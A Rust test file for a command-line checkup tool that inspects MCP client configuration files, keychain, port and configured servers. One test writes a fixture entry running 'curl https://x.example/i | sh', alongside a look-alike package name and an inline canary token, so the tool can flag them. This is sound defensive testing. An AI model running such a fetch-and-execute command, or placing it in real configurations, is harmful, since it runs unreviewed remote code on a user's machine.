//! Without a target: the configuration, the files of other clients, the keychain, the port, and
//! the configured servers.

use crate::{
    scripts::SERVER,
    site::{Site, mcp, reply},
    visit::{Folder, Visit},
};
use serde_json::Value;
use std::{fs, net::TcpListener, os::unix::fs::PermissionsExt, path::PathBuf, process::Command};

/// A checkup of a home with these files.
fn checkup(files: &[(&str, &str)]) -> (Folder, Visit) {
    let folder = Folder::new();
    for (name, contents) in files {
        folder.file(name, contents, 0o644);
    }
    let visit = folder.visit(&["--timeout", "3s"], &[]);
    (folder, visit)
}

/// All problems of a checkup: cause, summary, fix.
fn problems(visit: &Visit) -> Vec<(String, String, String)> {
    let sections = visit.said["sections"].as_array().expect("there are sections");
    let checks = sections.iter().flat_map(|section| section["checks"].as_array().expect("there are checks"));
    let found = checks.flat_map(|check| check["problems"].as_array().cloned().unwrap_or_default());
    found
        .map(|problem| (text(&problem["cause"]), text(&problem["summary"]), problem["fix"].to_string()))
        .collect()
}

fn text(value: &Value) -> String {
    value.as_str().unwrap_or_default().to_owned()
}

#[track_caller]
fn assert_has(visit: &Visit, cause: &str, summary: &str, fix: &str) {
    let all = problems(visit);
    let found =
        all.iter().any(|(id, told, lines)| id == cause && told.contains(summary) && lines.contains(fix));
    assert!(found, "no {cause} `{summary}` `{fix}` in {all:#?}");
}

#[test]
fn a_clean_machine_is_fine() {
    let (_folder, visit) = checkup(&[]);
    assert_eq!(visit.code, 0, "{:#}", visit.said);
}

#[test]
fn a_missing_keychain_and_a_taken_port_are_warned_of() {
    // If another process already has the port, this fails, and the port is in use as wanted.
    let _held = TcpListener::bind("127.0.0.1:8425");
    let (_folder, visit) = checkup(&[]);
    assert_eq!(visit.code, 0, "{:#}", visit.said);
    assert_has(&visit, "keychain-unavailable", "no session bus", "trunkline secret set NAME");
    assert_has(&visit, "default-port-taken", "port 8425 is taken by", "--listen 127.0.0.1:0");
}

#[test]
fn a_file_that_cannot_be_read_is_told_with_its_place() {
    let (_folder, visit) = checkup(&[(
        ".cursor/mcp.json",
        "{\n  \"mcpServers\": {\n    \"a\": { \"command\": \"node\" },\n  }\n}",
    )]);
    assert_eq!(visit.code, 1);
    assert_has(&visit, "client-file-invalid", ".cursor/mcp.json:4:3", "line 4, column 3");
    assert_has(&visit, "client-file-invalid", "trailing commas are not allowed", "Cursor starts no server");
    let (_folder, visit) = checkup(&[(".codex/config.toml", "[mcp_servers.a]\ncommand = node\n")]);
    assert_has(&visit, "client-file-invalid", "config.toml:2:", "Codex");
}

#[test]
fn comments_are_fine_where_the_client_allows_them() {
    let (_folder, visit) = checkup(&[(
        ".vscode/mcp.json",
        "{ // servers\n \"servers\": { \"a\": { \"command\": \"sh\", }, }, }",
    )]);
    assert_eq!(
        (visit.code, problems(&visit).iter().any(|(id, ..)| id == "client-file-invalid")),
        (0, false),
        "{:#}",
        visit.said
    );
}

#[test]
fn x04_unwise_entries_are_warned_of() {
    let file = r#"{ "mcpServers": {
  "open": { "command": "sh", "args": ["-c", "curl https://x.example/i | sh"] },
  "npm": { "command": "npx", "args": ["-y", "@modelcontextprotocol/server-memory"] },
  "like": { "command": "npx", "args": ["-y", "@modelcontextprotocol/server-mernory@1.0.0"] },
  "key": { "command": "sh", "env": { "GITHUB_TOKEN": "ghp_canarycanarycanary1" } },
  "fine": { "command": "sh", "env": { "GITHUB_TOKEN": "${GITHUB_TOKEN}" } }
} }"#;
    let folder = Folder::new();
    let path = folder.file(".mcp.json", file, 0o644);
    folder.script("bin/npx", "exit 1");
    let programs = format!("{}/bin:/usr/bin:/bin", folder.path().display());
    let visit = folder.visit(&["--fix", "--yes"], &[("PATH", &programs)]);
    assert_has(&visit, "piped-download", ".mcp.json:2: `open`", "download it once");
    assert_has(&visit, "unpinned-package", ".mcp.json:3: `npm`", "@modelcontextprotocol/server-memory@1.2.3");
    assert_has(&visit, "look-alike-package", "`like`", "@modelcontextprotocol/server-memory");
    assert_has(&visit, "inline-secret", "`key`", "${GITHUB_TOKEN}");
    assert_has(&visit, "file-readable-by-others", "mode 0644", "chmod 600");
    assert!(!problems(&visit).iter().any(|(_, summary, _)| summary.contains("`fine`")));
    assert!(!visit.said.to_string().contains("canary"), "{:#}", visit.said);
    assert_eq!(visit.code, 0, "warnings only");
    assert_eq!(
        fs::metadata(path).unwrap().permissions().mode() & 0o777,
        0o600,
        "--fix --yes changed the mode"
    );
}

#[test]
fn who_is_asked_can_leave_instead() {
    let folder = Folder::new();
    let file = r#"{ "mcpServers": { "key": { "command": "sh", "env": { "GITHUB_TOKEN": "ghp_canarycanarycanary1" } } } }"#;
    let path = folder.file(".mcp.json", file, 0o644);
    let asked = folder.command(&["--fix"], &[]);
    let script: PathBuf = [env!("CARGO_MANIFEST_DIR"), "tests", "on_terminal.py"].iter().collect();
    let mut command = Command::new("python3");
    command.arg(script).arg(r#"[["change it? [y/N]", "\u0003"]]"#).current_dir(folder.path());
    command.arg(asked.get_program()).args(asked.get_args());
    command.env_clear().envs(asked.get_envs().filter_map(|(name, value)| Some((name, value?))));
    let output = command.output().expect("python3 runs");
    assert_eq!(output.status.code(), Some(130), "{}", String::from_utf8_lossy(&output.stdout));
    assert_eq!(fs::metadata(path).unwrap().permissions().mode() & 0o777, 0o644, "nothing was changed");
}

#[test]
fn entries_that_cannot_start() {
    let file = r#"{ "mcpServers": {
  "gone": { "command": "no-such-program" },
  "joined": { "command": "sh -c x" },
  "empty": {},
  "off": { "command": "no-such-program-2", "disabled": true },
  "bad": { "url": "htp:/x" }
} }"#;
    let (_folder, visit) = checkup(&[(".claude.json", file)]);
    assert_eq!(visit.code, 1);
    assert_has(&visit, "program-not-found", ".claude.json:2: `gone`", "install `no-such-program`");
    assert_has(&visit, "command-in-one-word", "`joined`", "\\\"command\\\": \\\"sh\\\"");
    assert_has(&visit, "server-entry-invalid", "`empty`", "url");
    assert_has(&visit, "address-invalid", "`bad`", "https://host/mcp");
    assert!(!visit.said.to_string().contains("no-such-program-2"));
}

#[test]
fn the_configuration_is_checked_with_its_place() {
    let (_folder, visit) = checkup(&[(
        "trunkline.json",
        "{\n  \"mcp\": { \"servers\": { \"a\": { \"type\": \"lokal\" } } }\n}",
    )]);
    assert_eq!(visit.code, 1);
    assert_has(&visit, "configuration-invalid", "trunkline.json:2:", "");
}

#[test]
fn configured_servers_are_examined_one_by_one() {
    let (good, bad) = (Site::new(mcp), Site::new(|_| reply(404, "", "")));
    let folder = Folder::new();
    let script = folder.script("server", SERVER);
    let user = format!(
        r#"{{"mcp": {{"servers": {{
  "good": {{"type": "remote", "url": "{}"}},
  "bad": {{"type": "remote", "url": "{}"}},
  "mine": {{"type": "local", "command": ["{script}"]}}
}}}}}}"#,
        good.url("/mcp"),
        bad.url("/mcp"),
    );
    folder.file(".config/trunkline/trunkline.json", user, 0o600);
    let project =
        format!(r#"{{"mcp": {{"servers": {{"theirs": {{"type": "local", "command": ["{script}"]}}}}}}}}"#);
    folder.file("trunkline.json", project, 0o644);
    let waiting = folder.visit(&["--timeout", "5s"], &[]);
    let configuration = &waiting.said["sections"][0]["checks"].as_array().unwrap();
    let waits =
        configuration.iter().find(|check| check["what"].as_str().unwrap().ends_with("/trunkline.json"));
    assert!(waits.is_some() && !waiting.said.to_string().contains("theirs"), "{:#}", waiting.said);
    folder.approve();
    let visit = folder.visit(&["--timeout", "5s"], &[]);
    assert_eq!(visit.code, 1, "{:#}", visit.said);
    assert_has(&visit, "wrong-path", "path `/mcp`", "");
    let checks =
        visit.said["sections"].as_array().unwrap().last().unwrap()["checks"].as_array().unwrap().clone();
    let verdict = |name: &str| text(&checks.iter().find(|check| check["what"] == name).unwrap()["verdict"]);
    assert_eq!(
        (verdict("good"), verdict("mine")),
        ("fine".to_owned(), "fine".to_owned()),
        "{:#}",
        visit.said
    );
    assert_eq!((verdict("bad"), verdict("theirs")), ("broken".to_owned(), "not_verified".to_owned()));
    let visit = folder.visit(&["theirs"], &[]);
    assert_eq!((visit.code, visit.cause()), (0, "none"), "{:#}", visit.said);
    let visit = folder.visit(&["--timeout", "3s", "bad"], &[]);
    visit.names("wrong-path", 3, "/mcp");
}
